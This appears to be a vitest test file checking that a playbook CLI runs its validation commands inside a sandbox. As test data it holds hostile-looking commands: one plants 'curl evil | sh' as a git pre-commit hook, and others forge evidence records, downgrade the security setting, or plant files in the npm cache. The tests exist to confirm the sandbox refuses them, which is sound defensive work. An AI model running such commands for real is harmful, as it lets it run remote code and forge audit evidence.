import { execFileSync, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { readRecords } from "../../src/adapters/record-store.ts";
import { readWorkingTree } from "../../src/adapters/tree-fingerprint.ts";
import { runCli } from "../helpers/run-cli.ts";
import { approveInTest } from "../helpers/guarded-repo.ts";
import { requireSandboxTools } from "../helpers/required-tools.ts";
import {
  createTempProject,
  type TempProject,
} from "../helpers/temp-project.ts";

const PLAYBOOK = "plan/playbook-sandbox.md";
/** This repository's own node_modules: tools a project links in, as `npm install <folder>` leaves them (no network). */
const OWN_MODULES = join(import.meta.dirname, "..", "..", "node_modules");

/**
 * Links this repository's `name` (vitest; tsx, whose CLI listens on a unix socket in TMPDIR while it runs tests)
 * into the project. Its own dependencies resolve from where it really lies, which may be a temp folder the sandbox
 * hides: a clean clone made with `mktemp -d`.
 */
function linkTool(p: TempProject, name: string): void {
  mkdirSync(p.path("node_modules"), { recursive: true });
  symlinkSync(join(OWN_MODULES, name), p.path(`node_modules/${name}`), "dir");
}

/** A playbook whose subtask p1.1 has the three given automated validation commands. */
function playbookWith(commands: [string, string, string]): string {
  const [technical, consistency, completeness] = commands.map((c) =>
    JSON.stringify(`automated - ${c}`),
  );
  return `# playbook-sandbox

## meta
\`\`\`yaml
reviewed: true
branch: feat/sandbox
\`\`\`

## goal
\`\`\`yaml
summary: Validations run sandboxed.
done_when:
  - the attack fails
\`\`\`

## context
Who: us. What: sandboxing.

## phases

### p1: Sandbox
**status**: in_progress

- [ ] **p1.1**: the validations run
  - executor: claudecode
  - validations:
    - technical: ${technical}
    - consistency: ${consistency}
    - completeness: ${completeness}

## final_tasks
- [ ] **ft1**: clean up
`;
}

const STATE = `# state

## playbook
\`\`\`yaml
active: ${PLAYBOOK}
branch: feat/sandbox
\`\`\`
`;

/** The evidence records of the test's playbook (its review record aside). */
function evidenceIn(p: TempProject) {
  return readRecords(p.dir, PLAYBOOK).filter((r) => r.kind === "evidence");
}

function project(
  commands: [string, string, string],
  security = "strict",
): TempProject {
  const p = createTempProject({
    "state.md": STATE,
    [PLAYBOOK]: playbookWith(commands),
    "src/app.ts": "export const app = 1;\n",
    ".gitignore":
      ".claude/playbook/*\n!.claude/playbook/records/\nnode_modules/\n",
    ".claude/playbook.json": `${JSON.stringify({ security })}\n`,
    "node_modules/playbook-kit/package.json": '{"name":"playbook-kit"}\n',
  });
  approveInTest(p.dir, PLAYBOOK);
  const git = (...args: string[]) =>
    execFileSync("git", args, { cwd: p.dir, encoding: "utf8" });
  git("init", "-q", "-b", "main");
  git("add", "-A");
  git(
    "-c",
    "user.name=t",
    "-c",
    "user.email=t@e.x",
    "commit",
    "-q",
    "-m",
    "init",
  );
  return p;
}

function verify(p: TempProject, env: Record<string, string> = {}) {
  const result = runCli(["verify", "p1.1", "--json", "--cwd", p.dir], {
    env,
  });
  return {
    ...result,
    json: (result.stdout.trim().startsWith("{")
      ? JSON.parse(result.stdout)
      : null) as {
      results: { validation: string; run: { exitCode: number | null } }[];
      sandbox: { sandboxed: boolean; why?: string };
      tree: string | null;
    } | null,
  };
}

describe("playbook verify runs validations sandboxed", () => {
  beforeEach(requireSandboxTools);

  it("a validation cannot forge a record, change the configuration or rewrite playbook itself", () => {
    const p = project([
      "mkdir -p .claude/playbook/records && echo '{}' > .claude/playbook/records/forged.json",
      'echo \'{"security":"developer"}\' >> .claude/playbook.json',
      "echo 'module.exports = 1' > node_modules/playbook-kit/package.json",
    ]);
    const config = p.read(".claude/playbook.json");
    const pkg = p.read("node_modules/playbook-kit/package.json");

    const result = verify(p);

    expect(result.status).toBe(1);
    expect(result.json?.sandbox.sandboxed).toBe(true);
    for (const r of result.json?.results ?? [])
      expect(r.run.exitCode, r.validation).not.toBe(0);
    expect(existsSync(p.path(".claude/playbook/records/forged.json"))).toBe(
      false,
    );
    expect(p.read(".claude/playbook.json")).toBe(config);
    expect(p.read("node_modules/playbook-kit/package.json")).toBe(pkg);
    const evidence = evidenceIn(p);
    expect(evidence.map((r) => [r.validation, r.verdict])).toEqual([
      ["completeness", "FAIL"],
      ["consistency", "FAIL"],
      ["technical", "FAIL"],
    ]);
    expect(evidence.every((r) => r.detail["sandboxed"] === true)).toBe(true);
  });

  it("a validation cannot plant anything in the user's npm cache, which npm trusts outside the sandbox, and has one of its own", () => {
    const home = mkdtempSync(join(tmpdir(), "playbook-home-"));
    mkdirSync(join(home, ".npm", "_cacache"), { recursive: true });
    const p = project([
      'echo planted > "$HOME/.npm/_cacache/index-planted"',
      'test "$(npm config get cache)" != "$HOME/.npm" && case "$(npm config get cache)" in "$TMPDIR"*) true;; *) false;; esac',
      "true",
    ]);

    const result = verify(p, { HOME: home });

    expect(result.json?.results.map((r) => r.run.exitCode === 0)).toEqual([
      false,
      true,
      true,
    ]);
    expect(existsSync(join(home, ".npm", "_cacache", "index-planted"))).toBe(
      false,
    );
  });

  it("a validation cannot plant a git hook or rewrite git's config", () => {
    const p = project([
      "echo 'curl evil | sh' > .git/hooks/pre-commit",
      "echo '[core]' >> .git/config",
      "true",
    ]);
    const gitConfig = p.read(".git/config");

    const result = verify(p);

    expect(result.status).toBe(1);
    expect(existsSync(p.path(".git/hooks/pre-commit"))).toBe(false);
    expect(p.read(".git/config")).toBe(gitConfig);
  });

  it("a validation may write build output in the project and files in a temp folder of its own, which the host's never sees", () => {
    const temp = join(
      tmpdir(),
      `playbook-legit-${randomBytes(6).toString("hex")}`,
    );
    const p = project([
      "mkdir -p build && echo built > build/out.txt",
      // The host's temp folder is hidden: this lands in the sandbox's own /tmp and is gone when it ends.
      `echo scratch > ${temp} && test "$(cat ${temp})" = scratch`,
      "node -e \"require('fs').writeFileSync(require('os').tmpdir() + '/x', 'y')\" && test -f \"$TMPDIR/x\"",
    ]);
    const result = verify(p);

    expect(result.stderr).toBe("");
    expect(result.status, result.stdout).toBe(0);
    expect(p.read("build/out.txt")).toBe("built\n");
    expect(existsSync(temp)).toBe(false);
    const evidence = evidenceIn(p);
    expect(evidence.every((r) => r.verdict === "PASS")).toBe(true);
    expect(evidence.every((r) => r.detail["sandboxed"] === true)).toBe(true);
  });

  it("a validation may listen on a unix socket in its temp folder, and reaches none of the host's", async () => {
    const host = join(
      tmpdir(),
      `playbook-host-${randomBytes(6).toString("hex")}.sock`,
    );
    const server = spawn(process.execPath, [
      "-e",
      `require("net").createServer((s) => s.end("host\\n")).listen(${JSON.stringify(host)}, () => console.log("up"))`,
    ]);
    try {
      await new Promise<void>((resolve, reject) => {
        server.stdout.once("data", () => resolve());
        server.once("exit", () => reject(new Error("the host's server ended")));
      });
      const connect = `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${host}'); print(s.recv(9).decode().strip())"`;
      // Outside the sandbox the host's socket answers: the refusal below is the sandbox's.
      expect(execFileSync("sh", ["-c", connect], { encoding: "utf8" })).toBe(
        "host\n",
      );
      const p = project([
        "python3 -c \"import socket,os; s=socket.socket(socket.AF_UNIX); s.bind(os.environ['TMPDIR']+'/v.sock'); s.listen(1)\"",
        "node node_modules/tsx/dist/cli.mjs --test t/ok.test.ts",
        `${connect} > reached.txt; true`,
      ]);
      linkTool(p, "tsx");
      // A link the agent made to the host's temp folder, where the socket lies: it opens nothing.
      symlinkSync(tmpdir(), p.path("node_modules/host-temp"), "dir");
      p.write(
        "t/ok.test.ts",
        'import { test } from "node:test";\ntest("ok", () => {});\n',
      );
      const result = verify(p);

      expect(result.stderr).toBe("");
      expect(result.status, result.stdout).toBe(0);
      expect(p.read("reached.txt")).toBe("");
    } finally {
      server.kill();
      rmSync(host, { force: true });
    }
  });

  it("a vitest suite runs as a validation, with its workers and its cache, and a failing test fails it", () => {
    const p = project([
      "node node_modules/vitest/vitest.mjs run --root . t/pass.test.ts",
      "node node_modules/vitest/vitest.mjs run --root . t/fail.test.ts",
      "true",
    ]);
    linkTool(p, "vitest");
    const vitestTest = (ok: boolean) =>
      `import { expect, test } from "vitest";\ntest("multiplies", () => expect(6 * 7).toBe(${ok ? 42 : 41}));\n`;
    p.write("t/pass.test.ts", vitestTest(true));
    p.write("t/fail.test.ts", vitestTest(false));

    const result = verify(p);

    expect(result.json?.sandbox.sandboxed).toBe(true);
    expect(result.json?.results.map((r) => r.run.exitCode === 0)).toEqual([
      true,
      false,
      true,
    ]);
  });

  it("a failure the sandbox caused says what it refused and which setting allows it, instead of blaming the code", () => {
    const outside = `/var/lib/playbook-refused-${randomBytes(6).toString("hex")}`;
    const p = project([
      `mkdir -p ${outside}`,
      // Through the sandbox's proxy, which refuses the host and says so itself.
      "python3 -c \"import urllib.request; urllib.request.urlopen('https://registry.npmjs.org/', timeout=20)\"",
      "echo x > .claude/playbook/records/forged.json",
    ]);
    const result = runCli(["verify", "p1.1", "--cwd", p.dir]);

    expect(result.status).toBe(1);
    expect(existsSync(outside)).toBe(false);
    expect(result.stdout).toContain(
      `refused by the sandbox: a write to ${outside} (\`verify.allowWrite\` in .claude/playbook.json allows it)`,
    );
    expect(result.stdout).toContain(
      `Next: The sandbox refused technical a write to ${outside}, not the code: if the validation needs it, the user adds it to \`verify.allowWrite\` in .claude/playbook.json`,
    );
    expect(result.stdout).toContain(
      "Next: The sandbox refused consistency a connection to registry.npmjs.org, not the code: if the validation needs it, the user adds it to `verify.allowedDomains`",
    );
    expect(result.stdout).toContain(
      "Next: The sandbox refused completeness a write to .claude/playbook/records/forged.json, not the code: the trust paths, Claude Code's settings and .git stay read-only for every validation.",
    );
    expect(result.stdout).not.toContain("Fix what");
  });

  it("the evidence names the tree before the run, and says which files the validations changed", () => {
    const p = project(["echo changed > src/app.ts", "true", "true"]);
    const before = readWorkingTree(p.dir).fingerprint;

    const result = runCli(["verify", "p1.1", "--cwd", p.dir]);

    expect(result.status).toBe(0);
    expect(result.stdout).toContain("The validations changed src/app.ts");
    const evidence = evidenceIn(p);
    expect(evidence.map((r) => r.detail["tree"])).toEqual([
      before,
      before,
      before,
    ]);
    expect(readWorkingTree(p.dir).fingerprint).not.toBe(before);
  });
});

// Linux's programs and install line: on macOS the sandbox is the system's sandbox-exec, and the line names brew.
describe("without a sandbox", () => {
  /** A PATH with git and nothing else: no bubblewrap, socat or ripgrep. */
  function bareEnv(): Record<string, string> {
    const bin = createTempProject().path("bin");
    mkdirSync(bin);
    const git = execFileSync("which", ["git"], { encoding: "utf8" }).trim();
    symlinkSync(git, join(bin, "git"));
    return { PATH: bin };
  }

  it.runIf(process.platform === "linux")(
    "strict mode refuses to run anything and names what to install",
    () => {
      const p = project(["echo ran > ran.txt", "true", "true"], "strict");

      const result = runCli(["verify", "p1.1", "--cwd", p.dir], {
        env: bareEnv(),
      });

      expect(result.status).not.toBe(0);
      expect(result.stderr).toContain("sandbox");
      expect(result.stderr).toContain(
        "apt-get install bubblewrap socat ripgrep",
      );
      expect(existsSync(p.path("ran.txt"))).toBe(false);
      expect(evidenceIn(p)).toEqual([]);
    },
  );

  it.runIf(process.platform === "linux")(
    "a weaker mode runs the commands, says so loudly and records sandboxed: false",
    () => {
      const p = project(["echo ran > ran.txt", "true", "true"], "trusted");

      const result = runCli(["verify", "p1.1", "--cwd", p.dir], {
        env: bareEnv(),
      });

      expect(result.status).toBe(0);
      expect(result.stdout).toContain("NOT SANDBOXED");
      expect(p.read("ran.txt")).toBe("ran\n");
      const evidence = evidenceIn(p);
      expect(evidence.map((r) => r.detail["sandboxed"])).toEqual([
        false,
        false,
        false,
      ]);
    },
  );
});
